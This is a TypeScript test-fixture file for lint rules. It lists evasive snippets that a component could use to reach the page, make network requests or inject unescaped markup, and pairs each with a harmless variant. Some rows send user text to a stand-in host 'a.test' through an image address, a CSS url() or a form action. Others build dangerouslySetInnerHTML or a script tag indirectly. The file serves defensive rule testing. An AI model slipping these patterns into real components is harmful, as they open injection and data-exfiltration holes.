import { inFolder, type Evasion, type Row } from '../evasion.js';

const SYNTAX = 'no-restricted-syntax';
const RULE = 'nx-slice/globals';

/** A global of the page, used in a function. */
const global = (
  id: string,
  why: string,
  construct: string,
  expression: string,
): Row => [
  id,
  why,
  RULE,
  construct,
  `export const go = (text: string): unknown => ${expression};`,
  `export const go = (send: (text: string) => unknown, text: string): unknown => send(text);`,
];

const component = (
  id: string,
  why: string,
  construct: string,
  element: string,
  honest: string,
): Row => [
  id,
  why,
  SYNTAX,
  construct,
  `export const Title = ({ text }: { readonly text: string }) => ${element};`,
  `export const Title = ({ text }: { readonly text: string }) => ${honest};`,
];

/** Ways from a component to the page, to other computers, and to markup that nobody escaped. */
export const PAGE: readonly Evasion[] = [
  ...inFolder('src/component', '.ts', [
    global('page-top', 'The window above.', 'top', 'top?.postMessage(text)'),
    global(
      'page-parent',
      'The window around.',
      'parent',
      'parent.postMessage(text)',
    ),
    global(
      'page-opener',
      'The window before.',
      'opener',
      'opener?.postMessage(text)',
    ),
    global(
      'page-frames',
      'The window itself.',
      'frames',
      'frames.postMessage(text)',
    ),
    global('page-self', 'The window itself.', 'self', 'self.postMessage(text)'),
    global(
      'page-document',
      'The window of the document.',
      'document',
      'document.defaultView?.postMessage(text)',
    ),
    global('net-fetch', 'A request.', 'fetch', 'fetch(text)'),
    global(
      'net-xhr',
      'A request of the old kind.',
      'XMLHttpRequest',
      'new XMLHttpRequest().open("GET", text)',
    ),
    global('net-socket', 'A connection.', 'WebSocket', 'new WebSocket(text)'),
    global('net-events', 'A stream.', 'EventSource', 'new EventSource(text)'),
    global(
      'net-beacon',
      'A request that nobody sees.',
      'navigator',
      'navigator.sendBeacon(text)',
    ),
    global(
      'net-image',
      'A request for an image.',
      'new Image',
      'Object.is(new Image().src, text)',
    ),
    global(
      'net-worker',
      'A thread of its own.',
      'new Worker',
      'new Worker(text)',
    ),
    global(
      'html-parser',
      'Markup by a parser.',
      'DOMParser',
      'new DOMParser().parseFromString(text, "text/html")',
    ),
    [
      'page-of-an-event',
      'An event knows its window.',
      SYNTAX,
      'event.nativeEvent',
      `import type { MouseEvent } from 'react';\nexport const go = (event: MouseEvent) => event.nativeEvent.view?.postMessage(1);`,
      `import type { MouseEvent } from 'react';\nexport const go = (event: MouseEvent) => event.preventDefault();`,
    ],
    [
      'page-of-a-view',
      'An event knows its view, and that its document.',
      SYNTAX,
      'event.view.document',
      `import type { MouseEvent } from 'react';\nexport const go = (event: MouseEvent) => event.view.document.title;`,
      `import type { MouseEvent } from 'react';\nexport const go = (event: MouseEvent) => event.type;`,
    ],
    [
      'page-of-a-root',
      'An element knows its root.',
      SYNTAX,
      'getRootNode',
      `export const go = (button: HTMLButtonElement) => button.getRootNode();`,
      `export const go = (button: HTMLButtonElement) => button.form;`,
    ],
    [
      'timer-of-text',
      'A timer compiles a text.',
      'nx-slice/timers',
      `setTimeout('`,
      `export const later = () => setTimeout('alert(1)', 1);`,
      `export const later = (work: () => void) => setTimeout(() => work(), 1);`,
    ],
    [
      'timer-of-a-value',
      'The text comes from elsewhere.',
      'nx-slice/timers',
      'setTimeout(work',
      `export const later = (work: string) => setTimeout(work, 1);`,
      `export const later = (work: () => void) => setTimeout(() => work(), 1);`,
    ],
    [
      'timer-by-another-name',
      'Under another name.',
      'nx-slice/timers',
      'later = setTimeout',
      `export const later = setTimeout;`,
      `export const later = () => new Promise<void>((resolve) => setTimeout(resolve, 1));`,
    ],
    [
      'html-quoted',
      'Markup by a quoted name.',
      SYNTAX,
      `['innerHTML']`,
      `export const set = (heading: HTMLHeadingElement, text: string) => {\n  heading['innerHTML'] = text;\n};`,
      `export const set = (heading: HTMLHeadingElement) => {\n  heading['focus']();\n};`,
    ],
    [
      'html-in-backticks',
      'Markup by a name in backticks.',
      SYNTAX,
      '[`outerHTML`]',
      'export const set = (heading: HTMLHeadingElement, text: string) => {\n  heading[`outerHTML`] = text;\n};',
      'export const set = (heading: HTMLHeadingElement) => heading[`title`];',
    ],
    [
      'html-adjacent',
      'Markup next to an element.',
      SYNTAX,
      'insertAdjacentHTML',
      `export const set = (heading: HTMLHeadingElement, text: string) => heading.insertAdjacentHTML('beforeend', text);`,
      `export const set = (heading: HTMLHeadingElement) => heading.scrollIntoView();`,
    ],
    [
      'html-of-a-range',
      'Markup by a range.',
      SYNTAX,
      'createContextualFragment',
      `export const made = (range: { createContextualFragment(text: string): object }, text: string) => range.createContextualFragment(text);`,
      `export const made = (range: { readonly start: number }) => range.start;`,
    ],
    [
      'element-by-call',
      'An element that is no JSX.',
      SYNTAX,
      'createElement',
      `import { createElement } from 'react';\nexport const frame = (src: string) => createElement('iframe', { src });`,
      `import { useId } from 'react';\nexport const useName = () => useId();`,
    ],
    [
      'electron-import-in-the-page',
      'Electron as a type brings its globals along.',
      'nx-slice/imports',
      `'electron'`,
      `import type { Shell } from 'electron';\nexport const open = (shell: Shell) => shell.beep();`,
      `export const open = (shell: { beep(): void }) => shell.beep();`,
    ],
  ]),
  ...inFolder('src/component', '.tsx', [
    component(
      'html-in-pieces',
      'The name of a prop, put together.',
      `['dangerously'`,
      `<p {...{ ['dangerously' + 'SetInnerHTML']: { text } }} />`,
      `<p {...{ title: text }} />`,
    ),
    component(
      'html-of-a-frame',
      'Markup in a frame.',
      'srcDoc',
      `<section><iframe srcDoc={text} title="a" /></section>`,
      `<section title="a">{text}</section>`,
    ),
    component(
      'element-by-variable',
      'The name of an element, in a variable.',
      `Tag = 'script'`,
      `{ const Tag = 'script'; return <Tag>{text}</Tag>; }`
        .replace('{ const', '(() => { const')
        .replace(/}$/, '})()'),
      `{ const Tag = 'h2'; return <Tag>{text}</Tag>; }`
        .replace('{ const', '(() => { const')
        .replace(/}$/, '})()'),
    ),
    component(
      'net-by-image',
      'An address carries what a person wrote away.',
      'https://',
      '<img alt="" src={`https://a.test/?${text}`} />',
      '<img alt="" src={text} />',
    ),
    component(
      'net-by-form',
      'A form sends it.',
      'formAction',
      '<button formAction="//a.test">{text}</button>',
      '<button type="submit">{text}</button>',
    ),
    component(
      'net-by-style',
      'A background is a request.',
      'url(',
      '<p style={{ background: `url(https://a.test/${text})` }} />',
      '<p className="slice-item">{text}</p>',
    ),
  ]),
];
